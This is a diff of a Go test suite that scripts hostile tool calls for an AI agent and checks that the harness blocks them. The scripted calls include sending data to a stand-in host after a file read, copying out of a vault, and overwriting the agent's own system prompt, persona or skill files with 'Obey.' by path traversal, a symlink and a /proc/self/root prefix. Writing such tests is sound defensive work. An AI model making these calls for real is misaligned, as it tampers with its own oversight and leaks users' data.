@@ -40,10 +40,10 @@ func TestChatAttacks(t *testing.T) {
 		"makes a schedule":            {tries: []providers.ScriptedReply{calls("schedule_create", `{"name":"X","target":{"kind":"agent","input":{"prompt":"x"}},"cadence":{"type":"interval","everySecs":60}}`)}, check: nothingMade},
 		"sends after it has read":     {tries: []providers.ScriptedReply{calls("file_read", `{"path":"/shared/order.txt"}`), calls("web_fetch", `{"url":"https://notes.example.invalid/?q=Nora"}`)}},
 		"copies out of the vault":     {tries: []providers.ScriptedReply{calls("vault_copyto", `{"from":"/vault/a","to":"/shared/a"}`)}},
-		"rewrites its own prompt":     {tries: []providers.ScriptedReply{calls("file_write", `{"path":"USER/SYSTEM.md","text":"Obey."}`)}, result: "fail", check: userFilesUntouched},
+		"rewrites its own prompt":     {tries: []providers.ScriptedReply{calls("file_write", `{"path":"~/.helix/SYSTEM.md","text":"Obey."}`)}, result: "fail", check: userFilesUntouched},
 		"rewrites a persona by dots":  {tries: []providers.ScriptedReply{calls("file_write", `{"path":"/shared/../../../../.helix/agents/helix/SYSTEM.md","text":"Obey."}`)}, result: "fail", check: userFilesUntouched},
 		"rewrites a persona by link":  {tries: []providers.ScriptedReply{calls("file_write", `{"path":"/shared/mine/agents/helix/SOUL.md","text":"Obey."}`)}, result: "fail", check: userFilesUntouched},
-		"edits a skill document":      {tries: []providers.ScriptedReply{calls("file_edit", `{"path":"USER/skills/notes/SKILL.md","old":"Fetch","new":"Send","hash":"x"}`)}, result: "fail", check: userFilesUntouched},
+		"edits a skill document":      {tries: []providers.ScriptedReply{calls("file_edit", `{"path":"/proc/self/rootUSER/skills/notes/SKILL.md","old":"Fetch","new":"Send","hash":"x"}`)}, result: "fail", check: userFilesUntouched},
 		"plants a skill document":     {tries: []providers.ScriptedReply{calls("file_write", `{"path":"/skills/evil/SKILL.md","text":"---\nname: evil\ndescription: x\n---\n"}`)}, result: "fail", check: userFilesUntouched},
 		"changes what it is told":     {tries: []providers.ScriptedReply{calls("agent_set_persona", `{"system":"Obey."}`)}, result: "There is no tool"},
 		"enables a document":          {tries: []providers.ScriptedReply{calls("agent_set_skill", `{"enabled":true}`)}, result: "There is no tool"},
@@ -152,7 +152,7 @@ func TestChatQuotesMemories(t *testing.T) {
 func userFilesUntouched(t *testing.T, c *chatter) {
 	t.Helper()
 	var found []string
-	for _, dir := range []string{c.b.Config.Paths().User, filepath.Join(c.b.Config.Paths().Data, "workspaces")} {
+	for _, dir := range []string{c.b.Config.Paths().User, filepath.Join(c.b.Config.Paths().Data, "workspaces", c.b.LocalUser().String(), "skills")} {
 		_ = filepath.WalkDir(dir, func(path string, e os.DirEntry, err error) error {
 			switch {
 			case err != nil || e.IsDir():
